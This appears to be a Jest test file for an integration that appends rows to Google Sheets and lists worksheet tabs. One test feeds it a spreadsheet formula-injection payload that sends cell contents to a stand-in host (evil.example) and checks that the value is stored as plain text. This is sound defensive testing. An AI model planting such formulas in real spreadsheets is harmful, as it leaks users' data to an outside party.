import nock from 'nock';
import App from '../../index';
import type { AppendValuesResponse, Spreadsheet } from '../../lib/google/types';
import {
  appTester,
  caught,
  countRequests,
  makeBundle,
  recordUnmatched,
  SHEETS_HOST,
} from '../helpers';
import {
  appendWrite,
  columnRead,
  headerRead,
  SHEET_ID,
  SHEET_URL,
  valuesPath,
  type Captured,
} from './sheets-helpers';

const op = App.creates.append_sheet_row.operation as unknown as Record<
  string,
  Parameters<typeof appTester>[0]
> & { inputFields: unknown[] };
const HEADER = ['Session ID', 'Customer', 'Email', 'Amount'];
const run = (inputData: Record<string, unknown>, fresh = true) =>
  appTester(
    op.perform,
    makeBundle({ inputData: { spreadsheet: SHEET_URL, worksheet: 'Orders', ...inputData } }),
    fresh,
  );

describe('append_sheet_row', () => {
  it('writes RAW, INSERT_ROWS, anchored at A1, padded to the header width', async () => {
    const captured: Captured[] = [];
    headerRead('Orders', HEADER);
    appendWrite('Orders', 7, 4, captured);
    const out = await run({ COL$A: 'cs_test_1', COL$C: 'ada@example.com' });
    expect(captured[0].query).toEqual({
      valueInputOption: 'RAW',
      insertDataOption: 'INSERT_ROWS',
      includeValuesInResponse: 'false',
    });
    expect(captured[0].body).toEqual({
      majorDimension: 'ROWS',
      values: [['cs_test_1', '', 'ada@example.com', '']],
    });
    expect(out).toEqual({
      spreadsheet_id: SHEET_ID,
      worksheet: 'Orders',
      row_number: 7,
      updated_range: "'Orders'!A7:D7",
      values: ['cs_test_1', '', 'ada@example.com', ''],
      skipped_duplicate: false,
      existing_row: null,
    });
  });

  it('stores formula-like customer text literally, numbers as numbers', async () => {
    const captured: Captured[] = [];
    headerRead('Orders', HEADER);
    appendWrite('Orders', 8, 4, captured);
    await run({
      COL$A: '=IMPORTXML("https://evil.example/?"&A1,"//a")',
      COL$B: '+SUM(1)',
      COL$C: '@me',
      COL$D: '48.60',
    });
    expect(captured[0].query.valueInputOption).toBe('RAW');
    expect(captured[0].body.values[0]).toEqual([
      '=IMPORTXML("https://evil.example/?"&A1,"//a")',
      '+SUM(1)',
      '@me',
      48.6,
    ]);
  });

  it.each([["Bob's Orders"], ['Q1 2026 orders'], ['Bestellungen März 🧾']])(
    'quotes the worksheet %j in the range',
    async (worksheet) => {
      headerRead(worksheet, HEADER);
      const scope = appendWrite(worksheet, 2, 4);
      await run({ worksheet, COL$A: 'x' });
      expect(scope.isDone()).toBe(true);
    },
  );

  it('reads the header once, then serves it from the cache (one write per row)', async () => {
    const reads = countRequests(headerRead('Cached', HEADER));
    appendWrite('Cached', 2, 4)
      .post(valuesPath("'Cached'!A1:append"))
      .query(true)
      .reply(200, {
        spreadsheetId: SHEET_ID,
        updates: { updatedRange: "'Cached'!A3:D3" },
      } satisfies AppendValuesResponse);
    await run({ worksheet: 'Cached', COL$A: 'a' }, true);
    await run({ worksheet: 'Cached', COL$A: 'b' }, false);
    expect(reads()).toBe(1);
  });

  it('re-reads the header when a value reaches past the cached columns', async () => {
    const reads = countRequests(
      headerRead('Grown', ['A']),
      headerRead('Grown', ['A', 'B', 'C', 'New']),
    );
    appendWrite('Grown', 2, 1);
    appendWrite('Grown', 3, 4);
    await run({ worksheet: 'Grown', COL$A: 'a' }, true);
    const out = (await run({ worksheet: 'Grown', COL$D: 'd' }, false)) as { values: unknown[] };
    expect(reads()).toBe(2);
    expect(out.values).toEqual(['', '', '', 'd']);
  });

  it('skips a row whose dedupe value is already there, and names the row', async () => {
    headerRead('Orders', HEADER);
    columnRead('Orders', 'A', ['Session ID', 'cs_test_0', 'cs_test_1']);
    const unmatched = recordUnmatched();
    const out = await run({ COL$A: 'cs_test_1', dedupe_column: 'Session ID' });
    unmatched.stop();
    expect(out).toMatchObject({ skipped_duplicate: true, existing_row: 3, row_number: null });
    expect(unmatched.urls).toEqual([]);
  });

  it('appends when the dedupe value is new (column given by letter)', async () => {
    headerRead('Orders', HEADER);
    columnRead('Orders', 'A', ['Session ID', 'cs_test_0']);
    appendWrite('Orders', 3, 4);
    expect(await run({ COL$A: 'cs_test_2', dedupe_column: 'A' })).toMatchObject({
      skipped_duplicate: false,
      row_number: 3,
    });
  });

  it('offers one field per header column, or says the sheet has no header', async () => {
    const fields = op.inputFields[3] as Parameters<typeof appTester>[0];
    headerRead('Orders', HEADER);
    const list = (await appTester(
      fields,
      makeBundle({ inputData: { spreadsheet: SHEET_ID, worksheet: 'Orders' } }),
      true,
    )) as { key: string; label: string }[];
    expect(list.map((f) => [f.key, f.label])).toEqual([
      ['COL$A', 'Session ID'],
      ['COL$B', 'Customer'],
      ['COL$C', 'Email'],
      ['COL$D', 'Amount'],
    ]);
    headerRead('Empty', []);
    const none = (await appTester(
      fields,
      makeBundle({ inputData: { spreadsheet: SHEET_ID, worksheet: 'Empty' } }),
      true,
    )) as { key: string; helpText: string }[];
    expect(none).toEqual([
      expect.objectContaining({
        key: 'no_header_note',
        helpText: expect.stringMatching(/no header row yet/),
      }),
    ]);
  });

  it.each([
    [
      404,
      { error: { code: 404, message: 'Requested entity was not found.', status: 'NOT_FOUND' } },
      {
        status: 404,
        message: expect.stringMatching(/could not find the worksheet "Orders" of spreadsheet/),
      },
    ],
    [
      403,
      {
        error: {
          code: 403,
          message: 'The caller does not have permission',
          status: 'PERMISSION_DENIED',
        },
      },
      { status: 403, message: expect.stringMatching(/share it with the connected Google account/) },
    ],
    [
      429,
      {
        error: {
          code: 429,
          message: "Quota exceeded for quota metric 'Write requests'",
          status: 'RESOURCE_EXHAUSTED',
        },
      },
      { name: 'ThrottledError', message: expect.stringMatching(/nothing was written/) },
    ],
    [
      400,
      {
        error: {
          code: 400,
          message: "Unable to parse range: 'Orders'!1:1",
          status: 'INVALID_ARGUMENT',
        },
      },
      { status: 400, message: expect.stringMatching(/Unable to parse range/) },
    ],
  ])('maps Google %i to a plain message', async (status, body, expected) => {
    nock(SHEETS_HOST).get(valuesPath("'Orders'!1:1")).reply(status, body);
    expect(await caught(() => run({ COL$A: 'x' }))).toMatchObject(expected);
  });

  it.each([
    [{ spreadsheet: 'https://example.com/sheet' }, /example\.com/],
    [{ spreadsheet: '' }, /Spreadsheet is empty/],
    [{ worksheet: '  ' }, /Worksheet is empty/],
    [{ COL$A: undefined }, /No column values/],
  ])('refuses bad input %j before any request', async (input, message) => {
    const unmatched = recordUnmatched();
    const error = await caught(() => run({ COL$A: 'x', ...input }));
    unmatched.stop();
    expect(error).toMatchObject({ code: 'invalid_input', message: expect.stringMatching(message) });
    expect(unmatched.urls).toEqual([]);
  });

  it('refuses an unknown dedupe column without writing', async () => {
    headerRead('Orders', HEADER).persist();
    const unmatched = recordUnmatched();
    const error = await caught(() => run({ COL$A: 'x', dedupe_column: 'Order Number' }));
    unmatched.stop();
    nock.cleanAll();
    expect(error).toMatchObject({
      code: 'invalid_input',
      message: expect.stringMatching(/no column "Order Number"/),
    });
    expect(unmatched.urls).toEqual([]);
  });
});

describe('worksheet_list', () => {
  it('lists the tabs in sheet order', async () => {
    nock(SHEETS_HOST)
      .get(`/v4/spreadsheets/${SHEET_ID}`)
      .query({ fields: 'sheets.properties(sheetId,title,index)' })
      .reply(200, {
        sheets: [
          { properties: { sheetId: 7, title: 'Refunds', index: 1 } },
          { properties: { sheetId: 0, title: "Bob's Orders", index: 0 } },
        ],
      } satisfies Spreadsheet);
    const perform = (
      App.triggers.worksheet_list.operation as unknown as Record<
        string,
        Parameters<typeof appTester>[0]
      >
    ).perform;
    const out = await appTester(perform, makeBundle({ inputData: { spreadsheet: SHEET_URL } }));
    expect(out).toEqual([
      { id: "Bob's Orders", title: "Bob's Orders", index: 0 },
      { id: 'Refunds', title: 'Refunds', index: 1 },
    ]);
  });
});
